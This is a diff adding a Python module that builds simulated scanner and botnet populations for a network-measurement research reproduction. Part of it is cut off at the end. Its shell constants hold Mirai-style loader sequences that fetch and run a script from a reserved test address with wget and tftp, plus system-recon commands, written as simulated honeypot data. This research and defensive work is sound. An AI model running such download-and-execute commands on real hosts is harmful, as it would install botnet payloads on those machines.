@@ -1,0 +1,888 @@
+"""Calibrated scanner populations for 2020, 2021, and 2022.
+
+The population is the simulation's *workload*: a mixture of scanning
+campaigns whose mechanisms reproduce the behaviors the paper measures.
+Each family below cites the paper finding it encodes.  The analysis
+pipeline never reads these definitions — it must *rediscover* the
+behaviors from captured traffic, which is what the experiment drivers
+assert.
+
+The ``scale`` knob multiplies family sizes so tests can run small
+populations and benchmarks large ones; mixture *fractions* (who avoids
+telescopes, who speaks unexpected protocols, ...) are scale-invariant.
+"""
+
+from __future__ import annotations
+
+import itertools
+from dataclasses import dataclass, field
+
+from repro.scanners.base import (
+    PortPlan,
+    ScannerSpec,
+    SearchEngineUse,
+    TemporalProfile,
+)
+from repro.scanners.strategies import CoverageModel, StructureBias, TargetStrategy
+from repro.sim.events import NetworkKind
+
+__all__ = ["PopulationConfig", "build_population"]
+
+
+@dataclass(frozen=True)
+class PopulationConfig:
+    """Population knobs: measurement year and size multiplier."""
+
+    year: int = 2021
+    scale: float = 1.0
+
+    def __post_init__(self) -> None:
+        if self.year not in (2020, 2021, 2022):
+            raise ValueError("populations exist for 2020, 2021, 2022")
+        if self.scale <= 0:
+            raise ValueError("scale must be positive")
+
+    def count(self, base: int) -> int:
+        """Scale a family size, keeping at least one member."""
+        return max(1, round(base * self.scale))
+
+
+# --------------------------------------------------------------------------
+# AS pools
+# --------------------------------------------------------------------------
+
+#: Chinese ASes — the paper's strongest telescope avoiders (Section 5.2).
+CHINA_ASES = (4134, 56046, 9808, 4837, 45090, 37963)
+#: Bullet/commodity hosting ASes — common botnet + bruteforce origins.
+HOSTING_ASES = (53667, 14061, 16276, 24940, 51167, 20473, 36352, 55286, 29073, 49505)
+#: Residential/ISP ASes — IoT botnet members live here.
+ISP_ASES = (4766, 9318, 17974, 45899, 7713, 3462, 4760, 9498, 45609, 28573, 8151, 3320, 3215, 2856, 701, 7922, 9299, 12389)
+#: Mass-scanning measurement ASes (a la Alpha Strike / IP Volume / SS-Net).
+MEASUREMENT_ASES = (208843, 202425, 204428, 211252, 47890, 57523, 49870, 135377)
+
+NO_TELESCOPE = {NetworkKind.TELESCOPE: 0.0}
+
+#: Post-login shell sequences (Cowrie-style command capture).  The Mirai
+#: loader fingerprint and busybox-downloader one-liners are the classic
+#: vocabularies GreyNoise/Cowrie deployments observe.
+MIRAI_SHELL: tuple[tuple[str, ...], ...] = (
+    ("enable", "system", "shell", "sh", "/bin/busybox MIRAI"),
+    ("enable", "shell", "cat /proc/mounts; /bin/busybox ECCHI"),
+)
+LOADER_SHELL: tuple[tuple[str, ...], ...] = (
+    ("cd /tmp || cd /var/run", "wget http://198.18.0.7/bins.sh", "chmod 777 bins.sh", "sh bins.sh"),
+    ("cd /tmp", "tftp -g -r tftp1.sh 198.18.0.9", "sh tftp1.sh"),
+)
+RECON_SHELL: tuple[tuple[str, ...], ...] = (
+    ("uname -a", "cat /etc/os-release", "nproc", "free -m"),
+    ("whoami", "id", "w", "last"),
+    ("cat /proc/cpuinfo | grep model", "crontab -l"),
+)
+
+
+class _SpecFactory:
+    """Tiny helper that issues unique scanner ids and cycles AS pools."""
+
+    def __init__(self) -> None:
+        self._counter = itertools.count()
+        self.specs: list[ScannerSpec] = []
+
+    def add(self, family: str, asn: int, **kwargs) -> ScannerSpec:
+        spec = ScannerSpec(
+            scanner_id=f"{family}-{next(self._counter):05d}",
+            family=family,
+            asn=asn,
+            **kwargs,
+        )
+        self.specs.append(spec)
+        return spec
+
+    @staticmethod
+    def cycle(pool: tuple[int, ...]):
+        return itertools.cycle(pool)
+
+
+# --------------------------------------------------------------------------
+# family builders
+# --------------------------------------------------------------------------
+
+
+def _add_search_engine_crawlers(factory: _SpecFactory) -> None:
+    """Censys and Shodan themselves (benign, Internet-wide, scan everything).
+
+    They are "the most-frequently scanning Internet service search
+    engines" and do not avoid any network type.
+    """
+    for name, asn, rate in (("censys", 398324, 1.6), ("shodan", 10439, 1.2)):
+        factory.add(
+            f"{name}-crawler",
+            asn,
+            num_sources=12,
+            malicious=False,
+            strategy=TargetStrategy(coverage=CoverageModel(1.0)),
+            plans=(
+                PortPlan(22, "ssh", rate, banner_only_fraction=1.0, credential_dialect="global-ssh"),
+                PortPlan(23, "telnet", rate, banner_only_fraction=1.0, credential_dialect="global-telnet"),
+                PortPlan(2323, "telnet", rate * 0.5, banner_only_fraction=1.0, credential_dialect="global-telnet"),
+                PortPlan(80, "http", rate * 2.0, http_payloads=(f"{name}-get",), http_weights=(1.0,)),
+                PortPlan(8080, "http", rate * 0.7, http_payloads=(f"{name}-get",), http_weights=(1.0,)),
+                PortPlan(443, "tls", rate),
+                PortPlan(21, "http", rate * 0.4, http_payloads=(f"{name}-get",), http_weights=(1.0,)),
+                PortPlan(25, "http", rate * 0.3, http_payloads=(f"{name}-get",), http_weights=(1.0,)),
+            ),
+        )
+    # Censys is "the leading benign organization to find unexpected
+    # services" (Section 6): it also speaks TLS on HTTP ports.
+    factory.add(
+        "censys-unexpected",
+        398324,
+        num_sources=8,
+        malicious=False,
+        strategy=TargetStrategy(coverage=CoverageModel(1.0)),
+        plans=(PortPlan(80, "tls", 0.8), PortPlan(8080, "tls", 0.8)),
+    )
+
+
+def _add_background_unknown(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """The long tail of unknown-intent scanners (78% of GreyNoise IPs).
+
+    Low-rate, Internet-wide-subsampled, hit every network type, send
+    benign-looking probes.  Most apply the trailing-.255 broadcast filter
+    the paper observes on 7 of the 10 most-targeted ports.
+    """
+    ases = factory.cycle(MEASUREMENT_ASES + HOSTING_ASES + ISP_ASES)
+    port_protocols = ((80, "http"), (8080, "http"), (443, "tls"), (22, "ssh"),
+                      (23, "telnet"), (21, "http"), (25, "http"), (7547, "http"))
+    for index in range(config.count(90)):
+        port, protocol = port_protocols[index % len(port_protocols)]
+        avoid_broadcast = index % 4 != 0  # ~75% filter trailing .255
+        plan_kwargs: dict = {}
+        if protocol == "http":
+            plan_kwargs = {"http_payloads": ("root-get", "http10-get", "head-root"),
+                           "http_weights": (0.6, 0.25, 0.15)}
+        elif protocol in ("ssh", "telnet"):
+            plan_kwargs = {"banner_only_fraction": 1.0,
+                           "credential_dialect": f"global-{protocol}"}
+        factory.add(
+            "background",
+            next(ases),
+            num_sources=1 + index % 3,
+            malicious=False,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.25 + 0.55 * ((index * 7) % 10) / 10.0),
+                structure=StructureBias(trailing_255_factor=1 / 3.5) if avoid_broadcast else StructureBias(),
+            ),
+            plans=(PortPlan(port, protocol, 0.8 + (index % 5) * 0.3, **plan_kwargs),),
+        )
+
+
+def _add_telnet_botnets(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """Mirai-descended Telnet botnets (ports 23/2323).
+
+    Historically they do not avoid unused address space (Section 5.2:
+    ≥91% of port-23 cloud scanners also appear in the telescope), they
+    brute-force logins (66% of Telnet traffic attempts authentication),
+    and a Huawei-targeting variant concentrates on Asia-Pacific regions
+    with the "mother"/"e8ehome" vocabulary (Section 5.1).
+    """
+    ases = factory.cycle(ISP_ASES)
+    for index in range(config.count(36)):
+        # Port 2323 overlap is only ~53% cloud-side: half its scanners are
+        # service-seekers that skip the telescope.
+        on_2323 = index % 3 == 0
+        avoids_telescope = on_2323 and index % 2 == 0
+        port = 2323 if on_2323 else 23
+        factory.add(
+            "telnet-seeker" if avoids_telescope else "mirai-telnet",
+            next(ases),
+            num_sources=8 + (index % 5) * 8,
+            malicious=not avoids_telescope,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.3 + 0.4 * (index % 7) / 7.0),
+                kind_weights=NO_TELESCOPE if avoids_telescope else {},
+            ),
+            plans=(
+                PortPlan(
+                    port,
+                    "telnet",
+                    2.0 + (index % 4),
+                    credential_dialect="mirai",
+                    credential_attempts=(2, 6),
+                    banner_only_fraction=0.12,
+                    shell_commands=MIRAI_SHELL if index % 2 == 0 else LOADER_SHELL,
+                ),
+            ),
+        )
+    # Asia-Pacific Huawei campaign: the reason AWS-AU's top Telnet
+    # usernames are "mother" and "e8ehome".
+    for index in range(config.count(8)):
+        factory.add(
+            "huawei-apac-telnet",
+            next(ases),
+            num_sources=24,
+            malicious=True,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.8),
+                continent_weights={"NA": 0.04, "EU": 0.04, "SA": 0.04, "ME": 0.04, "AF": 0.04},
+                region_weights={"AP-AU": 3.0},
+            ),
+            plans=(
+                PortPlan(
+                    23,
+                    "telnet",
+                    6.0,
+                    credential_dialect="apac-huawei",
+                    credential_attempts=(2, 5),
+                    banner_only_fraction=0.1,
+                ),
+            ),
+        )
+    # A DVR-credential campaign concentrated on Singapore (the paper's
+    # Linode/Azure Singapore password anomalies).
+    for index in range(config.count(4)):
+        factory.add(
+            "dvr-apac-telnet",
+            next(ases),
+            num_sources=12,
+            malicious=True,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.7),
+                continent_weights={"NA": 0.05, "EU": 0.05, "SA": 0.05, "ME": 0.05, "AF": 0.05},
+                region_weights={"AP-SG": 4.0},
+            ),
+            plans=(
+                PortPlan(
+                    23,
+                    "telnet",
+                    5.0,
+                    credential_dialect="apac-dvr",
+                    credential_attempts=(2, 5),
+                    banner_only_fraction=0.1,
+                ),
+            ),
+        )
+
+
+def _add_ssh_attackers(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """SSH brute-forcers: overwhelmingly service-seeking telescope avoiders.
+
+    Only ~13% of port-22 cloud scanners (and <10% of attackers) appear in
+    the telescope (Tables 8/9); Chinese ASes avoid it most strongly.  In
+    2021 Chinanet skewed toward education networks and Cogent toward
+    clouds (Table 7's one exception), which disappeared in 2022.
+    """
+    china = factory.cycle(CHINA_ASES)
+    hosting = factory.cycle(HOSTING_ASES)
+    for index in range(config.count(44)):
+        asn = next(china) if index % 2 == 0 else next(hosting)
+        kind_weights: dict[NetworkKind, float] = dict(NO_TELESCOPE)
+        if config.year == 2021:
+            if asn == 4134:  # Chinanet: 6x education skew in 2021
+                kind_weights[NetworkKind.EDU] = 3.0
+                kind_weights[NetworkKind.CLOUD] = 0.5
+            elif asn == 174 or index % 11 == 0:
+                kind_weights[NetworkKind.CLOUD] = 2.0
+        port = 2222 if index % 4 == 0 else 22
+        factory.add(
+            "ssh-bruteforce",
+            asn if index % 11 != 0 else 174,
+            num_sources=4 + (index % 6) * 4,
+            malicious=True,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.25 + 0.5 * (index % 9) / 9.0),
+                kind_weights=kind_weights,
+            ),
+            plans=(
+                PortPlan(
+                    port,
+                    "ssh",
+                    1.5 + (index % 4),
+                    credential_dialect=("global-ssh", "router-bruteforce", "mirai")[index % 3]
+                    if index % 2 == 0
+                    else "global-ssh",
+                    credential_attempts=(2, 8),
+                    banner_only_fraction=0.1,
+                    region_dialects={"AP-JP": "apac-dvr"} if index % 5 == 0 else {},
+                    shell_commands=RECON_SHELL if index % 3 else LOADER_SHELL,
+                ),
+            ),
+        )
+    # Asia-Pacific-focused SSH campaigns: the reason Table 4's most-
+    # different SSH regions (AS and username rows) sit in AP-JP/AP-SG,
+    # and Table 5's APAC SSH similarity is lower than the US/EU's.
+    apac_ssh = (("AP-JP", "apac-dvr"), ("AP-SG", "router-bruteforce"),
+                ("AP-HK", "mirai"), ("AP-IN", "global-ssh"))
+    for index in range(config.count(10)):
+        region_code, dialect = apac_ssh[index % len(apac_ssh)]
+        factory.add(
+            f"apac-ssh-{region_code.lower()}",
+            next(china) if index % 2 == 0 else next(hosting),
+            num_sources=10,
+            malicious=True,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.8),
+                continent_weights={"NA": 0.03, "EU": 0.03, "SA": 0.03, "ME": 0.03, "AF": 0.03},
+                region_weights={region_code: 5.0},
+                kind_weights=NO_TELESCOPE,
+            ),
+            plans=(
+                PortPlan(
+                    22,
+                    "ssh",
+                    4.0,
+                    credential_dialect=dialect,
+                    credential_attempts=(2, 6),
+                    banner_only_fraction=0.1,
+                ),
+            ),
+        )
+    # The small broad-scanning SSH minority that does hit the telescope.
+    for index in range(config.count(4)):
+        factory.add(
+            "ssh-broad",
+            next(hosting),
+            num_sources=2,
+            malicious=True,
+            strategy=TargetStrategy(coverage=CoverageModel(0.5)),
+            plans=(
+                PortPlan(
+                    22,
+                    "ssh",
+                    1.5,
+                    credential_dialect="global-ssh",
+                    credential_attempts=(1, 4),
+                    banner_only_fraction=0.3,
+                ),
+            ),
+        )
+    # Mirai's SSH-port variant: prefers the first address of each /16 as
+    # its entry target (Figure 1a); PonyNet hosts much of it.
+    for index in range(config.count(3)):
+        factory.add(
+            "mirai-ssh-slash16",
+            53667 if index % 2 == 0 else next(hosting),
+            num_sources=8,
+            malicious=True,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.6),
+                structure=StructureBias(slash16_first_factor=30.0),
+            ),
+            plans=(
+                PortPlan(
+                    22,
+                    "ssh",
+                    1.0,
+                    credential_dialect="mirai",
+                    credential_attempts=(1, 3),
+                    banner_only_fraction=0.2,
+                ),
+            ),
+        )
+    # Tsunami: thousands of member IPs all hammering one unlucky IP in
+    # the Hurricane Electric /24 (Section 4.2).
+    factory.add(
+        "tsunami",
+        next(hosting),
+        num_sources=config.count(160),
+        malicious=True,
+        strategy=TargetStrategy(
+            coverage=CoverageModel(1.0),
+            exclusive_networks=("hurricane",),
+            latch_count=1,
+            latch_multiplier=220.0,
+            latch_exclusive=True,
+        ),
+        plans=(
+            PortPlan(
+                22,
+                "ssh",
+                1.2,
+                credential_dialect="global-ssh",
+                credential_attempts=(2, 6),
+                banner_only_fraction=0.05,
+                shell_commands=LOADER_SHELL,
+            ),
+        ),
+    )
+
+
+def _add_http_campaigns(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """HTTP scanners and exploit campaigns on 80/8080/443.
+
+    Calibrated so that ~75% of HTTP/80 payloads are non-exploit
+    (Section 3.2) while port 8080 skews malicious (Table 11), and so that
+    regional payload anomalies exist within Asia Pacific (Table 4):
+    Emirates Internet POSTs only to Mumbai, SATNET avoids Mumbai,
+    ThinkPHP-style RCEs concentrate in Hong Kong, IoT RCEs in Indonesia.
+    """
+    hosting = factory.cycle(HOSTING_ASES + MEASUREMENT_ASES)
+    crawler_ases = factory.cycle(MEASUREMENT_ASES + MEASUREMENT_ASES + HOSTING_ASES[:4])
+    china = factory.cycle(CHINA_ASES)
+    # Benign/unknown crawlers (the 75% non-exploit mass on port 80).
+    # Each campaign probes its own slice of common web paths, giving the
+    # dataset the distinct-payload diversity behind the paper's "only 6%
+    # of distinct HTTP payloads are malicious" observation.
+    from repro.scanners.payloads import PATH_PROBE_NAMES
+
+    for index in range(config.count(40)):
+        probe_count = 4 + index % 5
+        start = (index * 7) % max(len(PATH_PROBE_NAMES) - probe_count, 1)
+        probes = PATH_PROBE_NAMES[start : start + probe_count]
+        payload_names = ("root-get", "robots", "favicon", "head-root") + probes
+        weights = (0.4, 0.1, 0.1, 0.1) + tuple(0.3 / probe_count for _ in probes)
+        factory.add(
+            "http-crawler",
+            next(crawler_ases),
+            num_sources=2 + index % 4,
+            malicious=False,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.3 + 0.5 * (index % 8) / 8.0),
+                kind_weights=NO_TELESCOPE if index % 4 == 3 else {},
+                structure=StructureBias(any_255_factor=1 / 3.0) if index % 2 == 0 else StructureBias(),
+            ),
+            plans=(
+                PortPlan(80, "http", 4.0, http_payloads=payload_names, http_weights=weights,
+                         temporal=TemporalProfile(mode="diurnal", diurnal_peak_hour=float(8 + index % 10))
+                         if index % 3 == 0 else TemporalProfile()),
+                PortPlan(
+                    8080,
+                    "http",
+                    0.8,
+                    http_payloads=("root-get", "http10-get") + probes,
+                    http_weights=(0.5, 0.2) + tuple(0.3 / probe_count for _ in probes),
+                ),
+            ),
+        )
+    # Exploit campaigns.  Mixture mirrors the paper's families; most are
+    # service seekers (SSH-like telescope avoidance is weaker on HTTP:
+    # ~73% of port-80 scanners still hit the telescope).
+    exploit_sets: tuple[tuple[str, ...], ...] = (
+        ("log4shell",),
+        ("gpon-rce", "netgear-syscmd"),
+        ("shellshock",),
+        ("phpunit-rce", "env-probe"),
+        ("jaws-shell",),
+        ("wordpress-xmlrpc", "post-login-bruteforce"),
+        ("citrix-traversal", "spring-actuator-env"),
+        ("weblogic-wls", "jenkins-cli"),
+        ("drupalgeddon", "php-cgi-argv"),
+        ("hadoop-yarn", "tomcat-manager"),
+        ("shell-uploader-probe", "git-config-probe"),
+    )
+    for index in range(config.count(33)):
+        payloads = exploit_sets[index % len(exploit_sets)]
+        weights = tuple(1.0 for _ in payloads)
+        factory.add(
+            "http-exploit",
+            next(china) if index % 3 == 0 else next(hosting),
+            num_sources=2 + index % 6,
+            malicious=True,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.2 + 0.6 * (index % 9) / 9.0),
+                kind_weights=NO_TELESCOPE if index % 6 == 0 else {},
+            ),
+            plans=(
+                PortPlan(80, "http", 0.5 + (index % 3) * 0.25,
+                         http_payloads=payloads, http_weights=weights),
+                PortPlan(8080, "http", 1.4 + (index % 3) * 0.5,
+                         http_payloads=payloads, http_weights=weights),
+            ),
+        )
+    # Regional HTTP anomalies (Table 4's Asia-Pacific payload effects).
+    factory.add(
+        "emirates-mumbai",
+        5384,
+        num_sources=6,
+        malicious=True,
+        strategy=TargetStrategy(coverage=CoverageModel(1.0), exclusive_regions=("AP-IN",)),
+        plans=(
+            PortPlan(80, "http", 18.0,
+                     http_payloads=("post-login-bruteforce",), http_weights=(1.0,)),
+        ),
+    )
+    factory.add(
+        "satnet-not-mumbai",
+        14522,
+        num_sources=4,
+        malicious=False,
+        strategy=TargetStrategy(coverage=CoverageModel(0.9), region_weights={"AP-IN": 0.0}),
+        plans=(
+            PortPlan(80, "http", 2.0, http_payloads=("root-get",), http_weights=(1.0,)),
+        ),
+    )
+    for region_code, payload, count in (("AP-HK", "thinkphp-rce", 6), ("AP-ID", "boa-hikvision", 6)):
+        for index in range(config.count(count)):
+            factory.add(
+                f"iot-rce-{region_code.lower()}",
+                next(china),
+                num_sources=4,
+                malicious=True,
+                strategy=TargetStrategy(
+                    coverage=CoverageModel(0.8),
+                    continent_weights={"NA": 0.05, "EU": 0.05, "SA": 0.05, "ME": 0.05, "AF": 0.05},
+                    region_weights={region_code: 5.0},
+                ),
+                plans=(
+                    PortPlan(80, "http", 5.0, http_payloads=(payload,), http_weights=(1.0,)),
+                    PortPlan(8080, "http", 3.0, http_payloads=(payload,), http_weights=(1.0,)),
+                ),
+            )
+    # nmap scanners (Avast/M247/CDN77) that source live Censys results and
+    # *avoid* currently-listed HTTP services (Section 4.3).
+    for asn in (198605, 9009, 60068):
+        factory.add(
+            "nmap-censys-avoider",
+            asn,
+            num_sources=6,
+            malicious=False,
+            strategy=TargetStrategy(coverage=CoverageModel(0.9), kind_weights=NO_TELESCOPE),
+            search_engine=SearchEngineUse("censys", mode="avoid"),
+            plans=(
+                PortPlan(80, "http", 3.0, http_payloads=("nmap-options",), http_weights=(1.0,)),
+            ),
+        )
+
+
+def _add_search_engine_attackers(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """Attackers that mine Censys/Shodan for targets (Section 4.3).
+
+    Protocol preferences per Table 3: HTTP attackers lean on Censys,
+    SSH attackers on Shodan, Telnet attackers use both but less; Shodan
+    drives the largest overall HTTP increase.
+    """
+    hosting = factory.cycle(HOSTING_ASES)
+    china = factory.cycle(CHINA_ASES)
+
+    def _engine_specs(family: str, engine: str, count: int, port: int, protocol: str,
+                      malicious: bool, spike: int, **plan_kwargs) -> None:
+        for index in range(config.count(count)):
+            factory.add(
+                family,
+                next(china) if index % 2 == 0 else next(hosting),
+                num_sources=2 + index % 4,
+                malicious=malicious,
+                strategy=TargetStrategy(
+                    coverage=CoverageModel(0.15),
+                    kind_weights=NO_TELESCOPE if protocol in ("ssh", "telnet") else {},
+                ),
+                search_engine=SearchEngineUse(engine, spike_sessions=spike),
+                plans=(PortPlan(port, protocol, 0.4, **plan_kwargs),),
+            )
+
+    http_kwargs = {"http_payloads": ("log4shell", "phpunit-rce", "post-login-bruteforce"),
+                   "http_weights": (0.4, 0.3, 0.3)}
+    ssh_kwargs = {"credential_dialect": "global-ssh", "credential_attempts": (3, 8),
+                  "banner_only_fraction": 0.1}
+    telnet_kwargs = {"credential_dialect": "global-telnet", "credential_attempts": (2, 6),
+                     "banner_only_fraction": 0.2}
+
+    _engine_specs("se-http-censys", "censys", 8, 80, "http", True, 40, **http_kwargs)
+    _engine_specs("se-http-shodan", "shodan", 12, 80, "http", True, 70, **http_kwargs)
+    _engine_specs("se-ssh-shodan", "shodan", 10, 22, "ssh", True, 20, **ssh_kwargs)
+    _engine_specs("se-ssh-censys", "censys", 5, 22, "ssh", True, 10, **ssh_kwargs)
+    _engine_specs("se-telnet-censys", "censys", 5, 23, "telnet", True, 8, **telnet_kwargs)
+    _engine_specs("se-telnet-shodan", "shodan", 4, 23, "telnet", True, 6, **telnet_kwargs)
+    # The enormous benign-ish "all traffic" spikes on leaked services
+    # (72.6x on Censys-leaked Telnet, 15.7x on Shodan-leaked HTTP) come
+    # from non-attacking responders that poll fresh search results.
+    _engine_specs("se-telnet-censys-recon", "censys", 4, 23, "telnet", False, 160,
+                  credential_dialect="global-telnet", banner_only_fraction=1.0)
+    recon_http = {"http_payloads": ("root-get", "robots", "head-root"),
+                  "http_weights": (0.6, 0.2, 0.2)}
+    _engine_specs("se-http-censys-recon", "censys", 6, 80, "http", False, 60, **recon_http)
+    _engine_specs("se-http-shodan-recon", "shodan", 10, 80, "http", False, 80, **recon_http)
+
+
+def _add_unexpected_protocol_probers(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """Scanners that speak non-HTTP protocols on ports 80/8080 (Section 6).
+
+    ~15% of port-80/8080 scanners in 2021 (Table 11); nearly double in
+    2022 (Table 17).  TLS dominates, then Telnet/SQL/RTSP/SMB and
+    friends; Chinese ASes lead the malicious share and vetted
+    measurement orgs (Censys et al.) the benign share.
+    """
+    china = factory.cycle(CHINA_ASES)
+    measurement = factory.cycle(MEASUREMENT_ASES)
+    # (protocol, relative count, malicious)
+    mix = (
+        ("tls", 18, True), ("tls", 10, False),
+        ("telnet", 5, True), ("sql", 4, True), ("rtsp", 3, True),
+        ("smb", 3, True), ("redis", 2, True), ("adb", 2, True), ("fox", 2, False),
+    )
+    multiplier = 2.0 if config.year == 2022 else 1.0
+    for protocol, base, malicious in mix:
+        for index in range(config.count(round(base * multiplier))):
+            plans = [
+                PortPlan(80, protocol, 1.0),
+                PortPlan(8080, protocol, 1.0),
+            ]
+            if malicious:
+                # Malicious probers are also seen exploiting elsewhere —
+                # the behavior GreyNoise's reputation labels key on.
+                plans.append(
+                    PortPlan(23, "telnet", 0.3, credential_dialect="mirai",
+                             credential_attempts=(1, 3), banner_only_fraction=0.2)
+                )
+            factory.add(
+                f"unexpected-{protocol}",
+                next(china) if malicious else next(measurement),
+                num_sources=2 + index % 4,
+                malicious=malicious,
+                strategy=TargetStrategy(
+                    coverage=CoverageModel(0.4 + 0.4 * (index % 5) / 5.0),
+                    kind_weights=NO_TELESCOPE if malicious and index % 4 == 0 else {},
+                ),
+                plans=tuple(plans),
+            )
+
+
+def _add_structure_scanners(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """Campaigns with strong address-structure filters (Section 4.2, Fig. 1).
+
+    Port 445 scanners are 9x less likely to contact an address with any
+    255 octet; port 7574 scanners 61x; a port-17128 campaign latches onto
+    exactly four telescope IPs (Figure 1d).
+    """
+    hosting = factory.cycle(HOSTING_ASES + MEASUREMENT_ASES)
+    for index in range(config.count(12)):
+        factory.add(
+            "smb-structure",
+            next(hosting),
+            num_sources=2 + index % 4,
+            malicious=True,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.5 + 0.4 * (index % 4) / 4.0),
+                structure=StructureBias(any_255_factor=1 / 9.0, trailing_255_factor=1 / 3.5),
+            ),
+            plans=(PortPlan(445, "smb", 2.0),),
+        )
+    for index in range(config.count(6)):
+        factory.add(
+            "oracle-structure",
+            next(hosting),
+            num_sources=2,
+            malicious=False,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.8),
+                structure=StructureBias(any_255_factor=1 / 61.0),
+            ),
+            plans=(PortPlan(7574, "redis", 1.5),),
+        )
+    factory.add(
+        "port17128-latcher",
+        next(hosting),
+        num_sources=24,
+        malicious=False,
+        strategy=TargetStrategy(
+            coverage=CoverageModel(1.0),
+            exclusive_networks=("orion",),
+            latch_count=4,
+            latch_multiplier=40.0,
+            latch_exclusive=True,
+        ),
+        plans=(PortPlan(17128, "", 2.0),),
+    )
+    # CWMP (7547) scanners: moderate telescope avoidance (33%/71% split).
+    for index in range(config.count(12)):
+        avoids = index % 4 != 3
+        factory.add(
+            "cwmp",
+            next(hosting),
+            num_sources=4,
+            malicious=index % 2 == 0,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.5, mode="blocks", block_bits=12) if not avoids
+                else CoverageModel(0.5),
+                kind_weights=NO_TELESCOPE if avoids else {},
+            ),
+            plans=(PortPlan(7547, "http", 1.5,
+                            http_payloads=("root-get",), http_weights=(1.0,)),),
+        )
+
+
+def _add_port_service_seekers(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """Telescope-avoiding service seekers on FTP/SMTP/TLS ports.
+
+    Table 8's per-port overlap gradient (21: 29%, 25: 19%, 443: 30% of
+    cloud scanners also seen at the telescope) means most scanners of
+    these ports only contact networks with real services.
+    """
+    hosting = factory.cycle(HOSTING_ASES + MEASUREMENT_ASES)
+    seekers = ((21, "http", 30), (25, "http", 34), (443, "tls", 34))
+    for port, protocol, base_count in seekers:
+        for index in range(config.count(base_count)):
+            plan_kwargs: dict = {}
+            if protocol == "http":
+                plan_kwargs = {"http_payloads": ("root-get", "env-probe"),
+                               "http_weights": (0.7, 0.3)}
+            factory.add(
+                f"seeker-{port}",
+                next(hosting),
+                num_sources=3 + index % 5,
+                malicious=index % 3 == 0,
+                strategy=TargetStrategy(
+                    coverage=CoverageModel(0.3 + 0.5 * (index % 7) / 7.0),
+                    kind_weights=NO_TELESCOPE,
+                ),
+                plans=(PortPlan(port, protocol, 1.2, **plan_kwargs),),
+            )
+
+
+def _add_edu_regional_scanners(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """Legacy-address-space sweeps that reach EDU networks and the telescope.
+
+    The paper finds scanners that target education networks are far more
+    likely to also appear in the telescope (Table 8) and hypothesizes the
+    Merit/Orion same-AS adjacency explains it.  These campaigns sweep the
+    legacy academic address ranges (where Stanford, Merit, and Orion all
+    live) and rarely touch cloud allocations, so they lift the EDU-side
+    overlap without disturbing the cloud-side population.
+    """
+    ases = factory.cycle(ISP_ASES + MEASUREMENT_ASES)
+    for index in range(config.count(48)):
+        includes_cwmp = index % 3 == 0
+        includes_tls = index % 10 == 0
+        plans = [
+            PortPlan(22, "ssh", 0.5, banner_only_fraction=0.7,
+                     credential_dialect="global-ssh", credential_attempts=(1, 2)),
+            PortPlan(2222, "ssh", 0.4, banner_only_fraction=0.7,
+                     credential_dialect="global-ssh", credential_attempts=(1, 2)),
+            PortPlan(23, "telnet", 0.5, banner_only_fraction=0.6,
+                     credential_dialect="global-telnet", credential_attempts=(1, 2)),
+            PortPlan(2323, "telnet", 0.4, banner_only_fraction=0.6,
+                     credential_dialect="global-telnet", credential_attempts=(1, 2)),
+            PortPlan(80, "http", 0.5, http_payloads=("http10-get",), http_weights=(1.0,)),
+            PortPlan(8080, "http", 0.4, http_payloads=("http10-get",), http_weights=(1.0,)),
+            PortPlan(21, "http", 0.4, http_payloads=("http10-get",), http_weights=(1.0,)),
+            PortPlan(25, "http", 0.4, http_payloads=("http10-get",), http_weights=(1.0,)),
+        ]
+        if includes_cwmp:
+            plans.append(PortPlan(7547, "http", 0.4,
+                                  http_payloads=("http10-get",), http_weights=(1.0,)))
+        if includes_tls:
+            plans.append(PortPlan(443, "tls", 0.4))
+        factory.add(
+            "regional-sweep",
+            next(ases),
+            num_sources=4 + (index % 3) * 4,
+            malicious=False,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(0.8),
+                kind_weights={NetworkKind.CLOUD: 0.002},
+            ),
+            plans=tuple(plans),
+        )
+
+
+def _add_udp_scanners(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """UDP scanning campaigns (paper Section 7, "Protocol Diversity").
+
+    The paper's honeypots record the first UDP payload but never respond
+    (the ethics posture against amplification).  SIP device sweeps and
+    NTP reconnaissance are the classic UDP campaigns; both hit telescopes
+    as readily as honeypots since neither expects a handshake.
+    """
+    from repro.net.packets import Transport
+
+    ases = factory.cycle(HOSTING_ASES + ISP_ASES)
+    for index in range(config.count(10)):
+        port, protocol = ((5060, "sip"), (123, "ntp"))[index % 2]
+        factory.add(
+            f"udp-{protocol}",
+            next(ases),
+            num_sources=2 + index % 3,
+            malicious=index % 3 == 0,
+            strategy=TargetStrategy(coverage=CoverageModel(0.4 + 0.4 * (index % 5) / 5.0)),
+            plans=(PortPlan(port, protocol, 1.0, transport=Transport.UDP),),
+        )
+
+
+def _add_evasive_attackers(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """Honeypot-fingerprinting attackers (paper Section 7).
+
+    A small sophisticated population detects low-interaction honeypots
+    and withholds most sessions from them, while scanning the telescope
+    (which cannot be fingerprinted) at full rate — so honeypot datasets
+    under-represent them.  The prevalence ablation benchmark measures the
+    resulting bias.
+    """
+    china = factory.cycle(CHINA_ASES)
+    for index in range(config.count(6)):
+        factory.add(
+            "evasive-ssh",
+            next(china),
+            num_sources=4,
+            malicious=True,
+            honeypot_evasion=0.9,
